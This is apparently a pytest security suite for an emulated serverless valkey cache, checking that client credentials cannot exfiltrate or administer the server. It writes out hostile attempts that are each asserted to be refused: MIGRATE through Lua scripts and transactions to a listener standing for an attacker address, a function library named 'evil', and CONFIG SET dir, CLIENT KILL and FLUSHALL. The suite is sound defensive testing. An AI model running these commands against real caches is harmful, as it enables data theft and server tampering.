"""What a client of a serverless cache can and cannot reach, tried on the cache's TLS
endpoint as a client (or an attacker holding valid credentials) would: AWS's command
allow-list enforced inside valkey (scripts and transactions included), and nothing of
cloudlet's own (its admin user, the host's paths) visible."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
import redis
from ec_harness import Harness
from redis.backoff import NoBackoff
from redis.retry import Retry

from cloudlet.dataplane.spec import ADMIN_USER

PW = "a-very-long-password-1"


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    h = Harness(tmp_path_factory.mktemp("semantics"))
    h.call("CreateServerlessCache", ServerlessCacheName="open", Engine="valkey")
    h.call("CreateUser", UserId="app", UserName="app", Engine="valkey",
           AuthenticationMode={"Type": "password", "Passwords": [PW]}, AccessString="on ~* &* +@all")
    h.call("CreateUserGroup", UserGroupId="grp", Engine="valkey", UserIds=["app"])
    h.wait_for(lambda: h.call("DescribeUserGroups", UserGroupId="grp")["UserGroups"][0]["Status"] == "active")
    h.call("CreateServerlessCache", ServerlessCacheName="grouped", Engine="valkey", UserGroupId="grp")
    h.wait_status("open", "available", timeout=30)
    h.wait_status("grouped", "available", timeout=30)
    try:
        yield h
    finally:
        h.close()


def client(h: Harness, name: str = "open", **kw: object) -> redis.Redis:
    if name == "grouped":
        kw.setdefault("username", "app")
        kw.setdefault("password", PW)
    return redis.Redis(host=h.cache(name).address, port=6379, ssl=True, ssl_cert_reqs="none",
                       socket_timeout=10, retry=Retry(NoBackoff(), 0), **kw)  # type: ignore[arg-type]


def raw(r: redis.Redis, *args: object) -> object:
    """A command's reply as valkey sent it, without redis-py's per-command parsing."""
    conn = r.connection_pool.get_connection()
    try:
        conn.send_command(*args)
        return conn.read_response()
    finally:
        r.connection_pool.release(conn)


class Listener:
    """A TCP listener standing for an address an attacker controls: did valkey connect?"""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(1)
        self.sock.settimeout(1.5)
        self.port = self.sock.getsockname()[1]
        self.received = b""
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        try:
            conn, _ = self.sock.accept()
        except OSError:
            return
        conn.settimeout(1)
        try:
            self.received = conn.recv(65536) or b"(connected)"
        except OSError:
            self.received = b"(connected)"
        conn.close()

    def contacted(self) -> bool:
        self.thread.join(3)
        self.sock.close()
        return bool(self.received)


@pytest.mark.parametrize("cache", ["open", "grouped"])
def test_migrate_through_a_script_cannot_copy_data_out(env: Harness, cache: str) -> None:
    r = client(env, cache)
    r.set("{s}secret", "value")
    listener = Listener()
    script = "return redis.call('MIGRATE', '127.0.0.1', ARGV[1], KEYS[1], 0, 1000, 'COPY')"
    with pytest.raises(redis.ResponseError) as e:
        r.eval(script, 1, "{s}secret", listener.port)
    # The proxy's ACL rules refuse it; natively the command is renamed away: unknown to scripts.
    refusal = ("Unknown command called from script" if env.config.dataplane == "native"
               else "no permissions to run the 'migrate' command")
    assert refusal in str(e.value)
    assert not listener.contacted(), "valkey connected to the caller's address"
    # The top-level command and one queued in a transaction are refused as unknown.
    listener = Listener()
    with pytest.raises(redis.ResponseError, match="unknown command 'MIGRATE'"):
        r.execute_command("MIGRATE", "127.0.0.1", listener.port, "{s}secret", 0, 1000, "COPY")
    pipe = r.pipeline(transaction=True)
    pipe.execute_command("MIGRATE", "127.0.0.1", listener.port, "{s}secret", 0, 1000, "COPY")
    with pytest.raises(redis.ResponseError):
        pipe.execute()
    assert not listener.contacted()
    assert r.get("{s}secret") == b"value"


@pytest.mark.parametrize(
    "call",
    [
        "redis.call('CONFIG', 'SET', 'dir', '/tmp')",
        "redis.call('DEBUG', 'SLEEP', '0')",
        "redis.call('SAVE')",
        "redis.call('OBJECT', 'ENCODING', KEYS[1])",
        "redis.call('MEMORY', 'USAGE', KEYS[1])",
        "redis.call('KEYS', '*')",
        "redis.call('WAIT', '0', '0')",
        "redis.call('SCRIPT', 'KILL')",
    ],
)
def test_commands_serverless_lacks_are_refused_inside_scripts(env: Harness, call: str) -> None:
    r = client(env, "grouped")
    r.set("{k}x", "1")
    with pytest.raises(redis.ResponseError):
        r.eval(f"return {call}", 1, "{k}x")


def test_functions_are_not_offered(env: Harness) -> None:
    # FUNCTION/FCALL are restricted on serverless caches; the library below would reach MIGRATE.
    r = client(env)
    lib = "#!lua name=evil\nserver.register_function('m', function(keys, args) return server.call('MIGRATE') end)"
    with pytest.raises(redis.ResponseError, match="unknown command 'FUNCTION'"):
        r.execute_command("FUNCTION", "LOAD", lib)
    with pytest.raises(redis.ResponseError, match="unknown command 'FCALL'"):
        r.execute_command("FCALL", "m", 0)
    admin = env.admin("open")
    assert admin.execute_command("FUNCTION", "LIST") == []


@pytest.mark.parametrize("sub", ["LIST", "INFO", "ID", "KILL", "PAUSE", "UNPAUSE", "NO-EVICT", "TRACKING"])
def test_client_commands_that_reach_other_connections_are_refused(env: Harness, sub: str) -> None:
    r = client(env)
    args = {"KILL": ["ID", "1"], "PAUSE": ["100"], "TRACKING": ["ON"], "NO-EVICT": ["ON"]}.get(sub, [])
    with pytest.raises(redis.ResponseError, match=f"unknown subcommand '{sub}'"):
        r.execute_command("CLIENT", sub, *args)
    # CLIENT SETNAME/GETNAME, which serverless offers, still work.
    assert r.client_setname("app1") and r.client_getname() in ("app1", b"app1")


def test_admin_user_invisible(env: Harness) -> None:
    for cache in ("open", "grouped"):
        r = client(env, cache)
        users = r.execute_command("ACL", "USERS")
        assert ADMIN_USER.encode() not in users and users
        rules = r.execute_command("ACL", "LIST")
        assert rules and not any(ADMIN_USER.encode() in line for line in rules)
        assert r.execute_command("ACL", "GETUSER", ADMIN_USER) is None
        assert r.execute_command("ACL", "WHOAMI") in (b"default", b"app")
        # In a pipeline the rewritten replies keep their places.
        p = r.pipeline(transaction=False)
        p.set("a", "1").execute_command("ACL", "USERS").get("a").execute_command("ACL", "LIST").echo("end")
        out = p.execute()
        assert out[0] is True and out[2] == b"1" and out[4] == b"end"
        assert ADMIN_USER.encode() not in out[1] and not any(ADMIN_USER.encode() in x for x in out[3])
    # A RESP3 connection gets the same.
    r3 = client(env, protocol=3)
    assert ADMIN_USER.encode() not in r3.execute_command("ACL", "USERS")


def test_info_holds_no_host_paths(env: Harness) -> None:
    cache = env.cache("open")
    secrets = [str(env.config.data_dir), str(cache.workdir), str(cache.socket.parent), str(Path.home())]
    r = client(env)
    text = raw(r, "INFO", "everything").decode()  # type: ignore[union-attr]
    from_script = r.eval("return redis.call('INFO', 'everything')", 0).decode()
    for out in (text, from_script):
        assert "executable:/valkey-server" in out and "config_file:\r\n" in out
        for secret in secrets:
            assert secret not in out, secret


def test_unknown_subcommands_and_allowed_ones(env: Harness) -> None:
    r = client(env, "grouped")
    with pytest.raises(redis.ResponseError, match="unknown subcommand 'NUMPAT'"):
        r.execute_command("PUBSUB", "NUMPAT")
    with pytest.raises(redis.ResponseError, match="unknown subcommand 'SETUSER'"):
        r.execute_command("ACL", "SETUSER", "x", "on")
    with pytest.raises(redis.ResponseError, match="unknown command 'KEYS'"):
        r.keys("*")
    assert raw(r, "PUBSUB", "CHANNELS") == []
    assert raw(r, "COMMAND", "COUNT") > 100  # type: ignore[operator]
    assert r.script_load("return 1")


def test_reset_keeps_an_open_cache_usable(env: Harness) -> None:
    # Without a user group everyone is the default user, also after RESET (found by valkey's
    # own suite: unit/other "RESET clears Pub/Sub state").
    r = client(env)
    conn = r.connection_pool.get_connection()
    try:
        conn.send_command("MULTI")
        conn.send_command("SET", "r1", "x")
        conn.send_command("RESET")
        conn.send_command("SET", "r2", "y")
        conn.send_command("EXEC")
        assert conn.read_response() == b"OK"
        assert conn.read_response() == b"QUEUED"
        assert conn.read_response() == b"RESET"
        assert conn.read_response() == b"OK"
        with pytest.raises(redis.ResponseError, match="EXEC without MULTI"):
            conn.read_response()
        conn.send_command("SUBSCRIBE", "ch")
        assert conn.read_response()[0] == b"subscribe"
        conn.send_command("RESET")
        assert conn.read_response() == b"RESET"
        conn.send_command("GET", "r2")
        assert conn.read_response() == b"y"
    finally:
        r.connection_pool.release(conn)


def test_flush_commands_cannot_be_in_a_transaction(env: Harness) -> None:
    r = client(env)
    r.set("{f}kept", "1")
    for flush in ("FLUSHALL", "FLUSHDB"):
        pipe = r.pipeline(transaction=True)
        pipe.set("{f}other", "2").execute_command(flush)
        with pytest.raises(redis.ResponseError):
            pipe.execute()
        assert r.get("{f}kept") == b"1" and r.get("{f}other") is None
    assert r.flushdb() and r.dbsize() == 0
